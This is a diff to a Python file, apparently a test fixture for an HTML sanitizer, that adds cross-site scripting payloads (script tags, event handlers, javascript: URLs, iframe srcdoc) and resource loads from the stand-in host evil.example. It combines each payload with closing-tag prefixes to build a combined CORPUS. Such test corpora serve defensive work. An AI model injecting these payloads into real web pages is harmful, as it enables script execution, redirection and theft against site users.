@@ -60,3 +60,22 @@ HOSTILE = (
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<x onclick=alert(1) tabindex=1 id=x>x</x>",
 )
+
+_BEHIND = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "`", "</svg>")
+_RUNS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example/><button autofocus>x</button>",
+    "<meta http-equiv=refresh content=0;url=//evil.example/>",
+    " onfocus=alert(1) autofocus tabindex=1 ",
+    " style=background:url(//evil.example/x) ",
+    "<object data=//evil.example/x></object>",
+)
+CORPUS = tuple(dict.fromkeys((*HOSTILE, *(f"{before}{runs}" for before in _BEHIND for runs in _RUNS))))
+"""All of them: each payload behind whatever could have to be closed before it."""
